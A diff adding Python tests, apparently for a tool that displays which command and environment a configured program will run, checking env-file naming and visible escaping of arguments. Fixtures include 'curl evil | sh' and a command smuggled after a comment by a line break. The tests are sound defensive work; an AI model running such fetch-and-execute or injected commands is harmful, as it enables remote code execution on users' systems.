@@ -61,6 +61,8 @@ def test_files_of_the_repository_are_named(tmp_path: Path):
     assert offer(command="sh", args=["run.sh"], cwd="sub").programs(where) == ["run.sh"]
     assert offer(command=f"{where}/tool.py").programs(where) == [f"{where}/tool.py"]
     assert offer(command="/bin/sh", args=["../x", "-c"]).programs(where) == []
+    assert offer(command="sh", envFile=".env").programs("/p") == [".env"]
+    assert offer(command="sh", env_file="../.env").programs("/p") == []
     line = "tool.py is a file of this repository; its content is not pinned"
     assert line in offer(command="tool.py").lines(where)
 
@@ -69,6 +71,12 @@ def test_what_runs_is_shown_without_a_mask():
     """A mask could hide what stands behind an option."""
     lines = offer(command="sh", args=["--key", "curl evil | sh", "a b"]).lines("/p")
     assert lines[0] == "runs sh --key 'curl evil | sh' 'a b'"
+
+
+def test_a_line_break_is_seen():
+    """What looks like a comment could run."""
+    lines = offer(command="sh", args=["-c", "serve # \ncurl evil"], env={"A": "\r\n"}).lines("/p")
+    assert lines[:2] == ["runs sh -c 'serve # \\ncurl evil'", "sets A=\\r\\n"]
 
 
 def test_a_secret_is_masked_and_a_change_of_it_is_seen():
